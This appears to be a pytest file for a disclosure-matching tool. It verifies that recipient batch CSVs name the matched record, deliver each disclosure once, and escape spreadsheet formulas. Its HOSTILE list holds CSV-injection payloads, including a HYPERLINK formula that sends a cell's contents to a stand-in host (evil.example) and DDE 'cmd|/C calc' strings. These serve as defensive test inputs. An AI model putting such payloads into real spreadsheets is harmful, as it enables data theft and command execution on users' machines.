"""What each recipient receives in `batches/<recipient>.csv` (SPEC.md, the batch contract).

Each row names the recipient's own ``record_id`` (the record that was matched, so the
recipient never finds it again by name), every disclosure reaches a batch exactly once,
those approved at review included, and no cell runs as a spreadsheet formula.
"""

from __future__ import annotations

import csv
import datetime as dt
import json
from pathlib import Path

import pytest
from reviewers import as_reviewer
from sqlalchemy import insert, select

from accord.cli import main
from accord.csvsafe import TRIGGERS
from accord.disclosure import AUTOMATIC, Draft, disclose
from accord.outputs import write_outputs
from accord.remedy import recall_people
from accord.store import db
from accord.store.models import Disclosure, Match, ReviewItem, Run
from accord.synth import synthesise

AS_OF = dt.date(2026, 6, 30)
AT = dt.datetime(2026, 6, 30, 9, 0, tzinfo=dt.UTC)
FIELDS = {"dvla": ["family_name", "given_names"]}
# Names as a case record may hold them, each a formula in a spreadsheet (OWASP).
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as fh:
        return list(csv.DictReader(fh))


def _run_row(url: str, run_id: str) -> None:
    """A run that has committed its disclosures, as `accord run` leaves it before its files."""
    with db.connect(url) as conn:
        conn.execute(
            insert(Run).values(
                run_id=run_id, command="run", as_of=AS_OF, started_at=AT, status="disclosed",
                inputs={},
            )
        )  # fmt: skip


def _disclose(url: str, run_id: str | None, *shares: tuple[str, str, dict[str, str]]) -> list[str]:
    drafts = [
        Draft("ho-to-dvla", 1, "dvla", record, person, 0.9995, AUTOMATIC if run_id else
              "reviewers:alice, bob", fields)
        for person, record, fields in shares
    ]  # fmt: skip
    with db.connect(url) as conn:
        return disclose(conn, drafts, AT, run_id)


def _outputs(url: str, run_id: str, out: Path) -> list[dict[str, str]]:
    _run_row(url, run_id)
    write_outputs(url, run_id, out, {}, FIELDS)
    return read_csv(out / "batches" / "dvla.csv")


def test_a_disclosure_approved_at_review_reaches_the_next_batch_exactly_once(
    db_url: str, tmp_path: Path
) -> None:
    (automatic,) = _disclose(db_url, "run-1", ("P-1", "DVLA-1", {"family_name": "Okafor"}))
    (reviewed,) = _disclose(db_url, None, ("P-2", "DVLA-2", {"family_name": "Nguyễn"}))
    (recalled,) = _disclose(db_url, None, ("P-3", "DVLA-3", {"family_name": "O'Brien"}))
    with db.connect(db_url) as conn:  # recalled before any batch carried it: never sent
        recall_people(conn, ["P-3"], "decision_overturned", "test")
    first = _outputs(db_url, "run-1", tmp_path / "one")
    assert [(r["disclosure_id"], r["record_id"]) for r in first] == [
        (automatic, "DVLA-1"),
        (reviewed, "DVLA-2"),
    ]
    internal = read_csv(tmp_path / "one" / "disclosures.csv")
    assert {r["disclosure_id"] for r in internal} == {automatic, reviewed}
    with db.connect(db_url) as conn:
        found = conn.execute(select(Disclosure.disclosure_id, Disclosure.delivered_in)).all()
    delivered = {d: run for d, run in found}
    assert delivered == {automatic: None, reviewed: "run-1", recalled: None}
    assert recalled not in {r["disclosure_id"] for r in first}
    # The next run's batch does not carry it again.
    assert _outputs(db_url, "run-2", tmp_path / "two") == []


def test_every_batch_cell_that_would_run_as_a_formula_is_made_text(
    db_url: str, tmp_path: Path
) -> None:
    shares = [
        (f"P-{i}", f"DVLA-{i}" if i % 2 else f"@DVLA-{i}", {"family_name": v, "given_names": v})
        for i, v in enumerate(HOSTILE)
    ]
    _disclose(db_url, "run-1", *shares)
    rows = _outputs(db_url, "run-1", tmp_path / "out")
    assert len(rows) == len(HOSTILE)
    cells = [v for r in rows for v in r.values()]
    assert not [c for c in cells if c[:1] in TRIGGERS], "a cell still starts a formula"
    shown = {r["family_name"] for r in rows}
    assert shown == {"'" + v for v in HOSTILE}  # the value itself, marked as text
    assert {r["record_id"] for r in rows} >= {"'@DVLA-0", "DVLA-1"}
    assert {r["given_names"] for r in rows} == shown


# --- through `accord run` on a synthetic scenario --------------------------------------------


@pytest.fixture(scope="module")
def scenario(tmp_path_factory: pytest.TempPathFactory) -> Path:
    out = tmp_path_factory.mktemp("scenario")
    synthesise(out, people=800, seed=7, as_of=AS_OF)
    return out


def run_args(scenario: Path, url: str, key: Path, out: Path) -> list[str]:
    args = ["run", "--cases", str(scenario / "cases.csv")]
    for name in ("dvla", "hmrc", "bank"):
        args += ["--register", f"{name}={scenario / (name + '.csv')}"]
    args += ["--agreements", str(scenario / "agreements"), "--as-of", AS_OF.isoformat()]
    return [*args, "--database", url, "--key", str(key), "--out", str(out)]


def test_each_batch_row_names_the_recipients_record_that_was_matched(
    scenario: Path, empty_db_url: str, tmp_path: Path
) -> None:
    db_url = empty_db_url  # a first run makes the schema and the key (SPEC.md alone)
    key = tmp_path / "ledger.key"
    assert main(run_args(scenario, db_url, key, tmp_path / "out")) == 0
    truth = {
        (r["register"], r["record_id"]): r["person_id"]
        for r in read_csv(scenario / "truth" / "records.csv")
    }
    with db.connect(db_url) as conn:
        matched = {
            d: (register, record, person)
            for d, register, record, person in conn.execute(
                select(
                    Disclosure.disclosure_id, Match.register, Match.record_id, Match.person_id
                ).join(Match, Match.id == Disclosure.match_id)
            )
        }
    seen = 0
    for name in ("dvla", "hmrc", "bank"):
        register = {r["record_id"] for r in read_csv(scenario / f"{name}.csv")}
        path = tmp_path / "out" / "batches" / f"{name}.csv"
        assert path.read_text(encoding="utf-8").startswith("disclosure_id,record_id,")
        batch = read_csv(path)
        for row in batch:
            register_name, record, person = matched[row["disclosure_id"]]
            # The record the linkage matched, in the recipient's own register...
            assert (register_name, record) == (name, row["record_id"])
            assert row["record_id"] in register
            # ...and, automatic as these are, the right person's record (the truth).
            assert truth[(name, record)] == person
            seen += 1
    assert seen == len(matched) > 0


def test_a_match_approved_at_review_goes_out_in_the_next_run_once(
    scenario: Path, empty_db_url: str, tmp_path: Path
) -> None:
    db_url = empty_db_url
    key = tmp_path / "ledger.key"
    assert main(run_args(scenario, db_url, key, tmp_path / "one")) == 0
    with db.connect(db_url) as conn:
        item = conn.execute(
            select(
                ReviewItem.item_id, ReviewItem.record_id, ReviewItem.agreement_id,
                ReviewItem.approvals_needed,
            )
            .where(ReviewItem.kind == "uncertain_match", ReviewItem.status == "open")
            .order_by(ReviewItem.item_id)
            .limit(1)
        ).one()  # fmt: skip
    for reviewer in ("alice", "bob")[: item.approvals_needed]:
        assert main([
            "review", "decide", item.item_id, "--approve", *as_reviewer(db_url, reviewer, tmp_path),
            "--reason", "the licence photograph matches", "--as-of", AS_OF.isoformat(),
            "--database", db_url, "--key", str(key),
        ]) == 0  # fmt: skip
    with db.connect(db_url) as conn:
        made = conn.execute(
            select(Disclosure.disclosure_id, Disclosure.recipient, Disclosure.run_id).where(
                Disclosure.record_id == item.record_id,
                Disclosure.agreement_id == item.agreement_id,
            )
        ).one()
    assert made.run_id is None
    assert main(run_args(scenario, db_url, key, tmp_path / "two")) == 0
    second = read_csv(tmp_path / "two" / "batches" / f"{made.recipient}.csv")
    assert [(r["disclosure_id"], r["record_id"]) for r in second] == [
        (made.disclosure_id, item.record_id)
    ]
    summary = json.loads((tmp_path / "two" / "summary.json").read_text())
    assert sum(a["disclosed"] for a in summary["agreements"].values()) == 0
    assert main(run_args(scenario, db_url, key, tmp_path / "three")) == 0
    assert read_csv(tmp_path / "three" / "batches" / f"{made.recipient}.csv") == []
